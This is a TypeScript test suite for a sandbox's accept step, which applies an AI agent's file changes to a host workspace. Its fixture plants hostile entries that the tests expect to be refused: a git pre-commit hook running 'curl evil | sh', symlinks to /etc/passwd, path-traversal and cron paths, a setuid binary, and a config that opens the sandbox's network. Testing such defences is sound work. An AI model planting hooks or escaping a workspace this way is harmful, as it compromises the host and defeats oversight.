import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  readlinkSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { planAccept, type WorkspaceChange } from '../src/workspace/accept-changes.js';
import type { LayerEntry } from '../src/workspace/overlay/layer-diff.js';
import { removeTrees } from '../src/_internal/remove-trees.js';
import { listTree, makeSandbox } from './helpers.js';

/** A hand-made layer holding what an agent left behind, hostile entries included. */
function setup() {
  const sb = makeSandbox({ 'keep.txt': 'keep\n', 'old.txt': 'old\n', 'src/a.ts': 'a1\n', '.git/hooks/.keep': '' });
  const layer = join(sb.root, 'layer');
  const put = (path: string, content: string, mode = 0o644): void => {
    mkdirSync(join(layer, path, '..'), { recursive: true });
    writeFileSync(join(layer, path), content);
    chmodSync(join(layer, path), mode);
  };
  put('src/a.ts', 'a2\n');
  put('src/new/b.ts', 'b\n');
  put('bin/tool', '#!/bin/sh\n', 0o4755);
  put('.git/hooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n', 0o755);
  put('agentcell.toml', '[network]\nmode = "open"\n');
  mkdirSync(join(layer, 'links'), { recursive: true });
  symlinkSync('/etc/passwd', join(layer, 'links', 'passwd'));
  symlinkSync('../../outside', join(layer, 'links', 'up'));
  symlinkSync('../src/a.ts', join(layer, 'links', 'ok'));
  execFileSync('mkfifo', [join(layer, 'fifo')]);
  execFileSync('mknod', [join(layer, 'dev'), 'c', '0', '0']);
  const sourceOf = (path: string): LayerEntry | undefined =>
    existsSync(join(layer, path)) || isLink(join(layer, path))
      ? { path: join(layer, path), stats: lstatSync(join(layer, path)) }
      : undefined;
  return { sb, layer, sourceOf };
}

function isLink(path: string): boolean {
  try {
    return lstatSync(path).isSymbolicLink();
  } catch {
    return false;
  }
}

const CHANGES: WorkspaceChange[] = [
  { path: 'src/a.ts', change: 'modified' },
  { path: 'src/new/b.ts', change: 'added' },
  { path: 'old.txt', change: 'deleted' },
  { path: 'bin/tool', change: 'added' },
  { path: '.git/hooks/pre-commit', change: 'added' },
  { path: 'agentcell.toml', change: 'added' },
  { path: 'links/passwd', change: 'added' },
  { path: 'links/up', change: 'added' },
  { path: 'links/ok', change: 'added' },
  { path: 'fifo', change: 'added' },
  { path: 'dev', change: 'added' },
  { path: '../escape', change: 'added' },
  { path: '/etc/cron.d/x', change: 'added' },
  { path: 'src/../../x', change: 'added' },
];

describe('accept', () => {
  it('applies ordinary changes and refuses every hostile one, leaving the host untouched by them', async () => {
    const { sb, sourceOf } = setup();
    try {
      const result = await planAccept({ workspace: sb.workspace, changes: CHANGES, sourceOf, force: false }).apply();
      assert.deepEqual(result.applied.map((c) => c.path).sort(), [
        'bin/tool',
        'links/ok',
        'old.txt',
        'src/a.ts',
        'src/new/b.ts',
      ]);
      const refused = new Map(result.refused.map((r) => [r.path, r.reason]));
      assert.match(refused.get('.git/hooks/pre-commit') ?? '', /control-plane/);
      assert.match(refused.get('agentcell.toml') ?? '', /control-plane/);
      assert.match(refused.get('links/passwd') ?? '', /absolute path/);
      assert.match(refused.get('links/up') ?? '', /outside the workspace/);
      assert.match(refused.get('fifo') ?? '', /fifo/);
      assert.match(refused.get('dev') ?? '', /character device/);
      for (const p of ['../escape', '/etc/cron.d/x', 'src/../../x'])
        assert.match(refused.get(p) ?? '', /plain relative path/);

      assert.equal(readFileSync(join(sb.workspace, 'src/a.ts'), 'utf8'), 'a2\n');
      assert.equal(readFileSync(join(sb.workspace, 'src/new/b.ts'), 'utf8'), 'b\n');
      assert.equal(existsSync(join(sb.workspace, 'old.txt')), false);
      assert.equal(statSync(join(sb.workspace, 'bin/tool')).mode & 0o7777, 0o755, 'setuid bit dropped');
      assert.equal(readlinkSync(join(sb.workspace, 'links/ok')), '../src/a.ts');
      assert.equal(existsSync(join(sb.workspace, '.git/hooks/pre-commit')), false);
      assert.equal(existsSync(join(sb.workspace, 'agentcell.toml')), false);
      assert.equal(existsSync(join(sb.root, 'escape')), false);
      assert.equal(existsSync(join(sb.root, 'x')), false);
      assert.ok(!listTree(sb.workspace).some((p) => p.includes('.agentcell-accept-')), 'no temp files left');
    } finally {
      sb.cleanup();
    }
  });

  it('--force applies the control plane too; --dry-run changes nothing', async () => {
    const { sb, sourceOf } = setup();
    try {
      const before = listTree(sb.workspace);
      const dry = planAccept({ workspace: sb.workspace, changes: CHANGES, sourceOf, force: true });
      assert.ok(dry.applied.some((c) => c.path === '.git/hooks/pre-commit'));
      assert.deepEqual(listTree(sb.workspace), before);
      await planAccept({ workspace: sb.workspace, changes: CHANGES, sourceOf, force: true }).apply();
      assert.match(readFileSync(join(sb.workspace, '.git/hooks/pre-commit'), 'utf8'), /curl evil/);
    } finally {
      sb.cleanup();
    }
  });

  it('never writes through a symlinked directory on the host', async () => {
    const { sb, sourceOf } = setup();
    try {
      const outside = join(sb.root, 'outside-dir');
      mkdirSync(outside);
      symlinkSync(outside, join(sb.workspace, 'src/new'));
      const result = await planAccept({
        workspace: sb.workspace,
        changes: [{ path: 'src/new/b.ts', change: 'added' }],
        sourceOf,
        force: false,
      }).apply();
      assert.match(result.refused[0]?.reason ?? '', /symlink on the host/);
      assert.deepEqual(listTree(outside), []);
    } finally {
      sb.cleanup();
    }
  });
});

describe('accept sets replaced and deleted entries aside', () => {
  /** A workspace with a file to replace, a tree and a symlink to delete, and a layer with the new file. */
  function scene() {
    const sb = makeSandbox({
      'a.txt': 'old\n',
      'tree/deep/f.txt': 'f\n',
      'dirx/inner.txt': 'i\n',
      'late.txt': 'late\n',
    });
    const outside = join(sb.root, 'outside');
    mkdirSync(outside);
    writeFileSync(join(outside, 'keep.txt'), 'keep\n');
    symlinkSync(outside, join(sb.workspace, 'link'));
    const layer = join(sb.root, 'layer');
    mkdirSync(layer);
    writeFileSync(join(layer, 'a.txt'), 'new\n');
    writeFileSync(join(layer, 'dirx'), 'a file now\n');
    writeFileSync(join(layer, 'late.txt'), 'from the cell\n');
    const sourceOf = (path: string): LayerEntry | undefined =>
      existsSync(join(layer, path)) ? { path: join(layer, path), stats: lstatSync(join(layer, path)) } : undefined;
    const changes: WorkspaceChange[] = [
      { path: 'a.txt', change: 'modified' },
      { path: 'tree', change: 'deleted' },
      { path: 'tree/deep', change: 'deleted' },
      { path: 'tree/deep/f.txt', change: 'deleted' },
      { path: 'link', change: 'deleted' },
      { path: 'dirx', change: 'modified' }, // a file where the workspace has a directory
      { path: 'late.txt', change: 'added' }, // the host made one meanwhile: replaced, not failed
    ];
    return { sb, outside, sourceOf, changes, oldInode: statSync(join(sb.workspace, 'a.txt')).ino };
  }

  it('moves them into the set-aside directory, never following a symlink, and leaves nothing else behind', async () => {
    const { sb, outside, sourceOf, changes, oldInode } = scene();
    try {
      const aside = join(sb.root, 'aside');
      mkdirSync(aside);
      const result = await planAccept({ workspace: sb.workspace, changes, sourceOf, force: false }).apply(aside);
      assert.equal(result.refused.length, 0);
      assert.deepEqual(listTree(sb.workspace).sort(), ['a.txt', 'dirx', 'late.txt']);
      assert.equal(readFileSync(join(sb.workspace, 'a.txt'), 'utf8'), 'new\n');
      assert.equal(readFileSync(join(sb.workspace, 'dirx'), 'utf8'), 'a file now\n');
      assert.equal(readFileSync(join(sb.workspace, 'late.txt'), 'utf8'), 'from the cell\n');
      assert.deepEqual(listTree(outside), ['keep.txt'], 'the symlink was moved, not what it points at');
      const kept = readdirSync(aside).map((name) => lstatSync(join(aside, name)));
      assert.ok(
        kept.some((s) => s.ino === oldInode),
        'the replaced file is kept alive there, not freed in place',
      );
      assert.ok(kept.some((s) => s.isDirectory()) && kept.some((s) => s.isSymbolicLink()));
    } finally {
      sb.cleanup();
    }
  });

  it('removes them in place when the set-aside directory is on another filesystem', async () => {
    const { sb, outside, sourceOf, changes } = scene();
    const aside = mkdtempSync('/dev/shm/agentcell-aside-');
    try {
      assert.notEqual(statSync(aside).dev, statSync(sb.workspace).dev, '/dev/shm must be another filesystem');
      await planAccept({ workspace: sb.workspace, changes, sourceOf, force: false }).apply(aside);
      assert.deepEqual(listTree(sb.workspace).sort(), ['a.txt', 'dirx', 'late.txt']);
      assert.equal(readFileSync(join(sb.workspace, 'a.txt'), 'utf8'), 'new\n');
      assert.deepEqual(listTree(outside), ['keep.txt']);
      assert.deepEqual(readdirSync(aside), []);
    } finally {
      rmSync(aside, { recursive: true, force: true });
      sb.cleanup();
    }
  });
});

describe('dropping layers after accept', () => {
  it('opens up only directories, so files accept hard-linked into the workspace keep their modes', () => {
    const sb = makeSandbox();
    try {
      const layer = join(sb.root, 'layer');
      mkdirSync(join(layer, 'locked', 'inner'), { recursive: true });
      writeFileSync(join(layer, 'f.txt'), 'x');
      chmodSync(join(layer, 'f.txt'), 0o644);
      chmodSync(join(layer, 'locked'), 0o000);
      linkSync(join(layer, 'f.txt'), join(sb.workspace, 'f.txt'));
      removeTrees([layer]);
      assert.equal(existsSync(layer), false);
      assert.equal(statSync(join(sb.workspace, 'f.txt')).mode & 0o7777, 0o644);
    } finally {
      sb.cleanup();
    }
  });
});
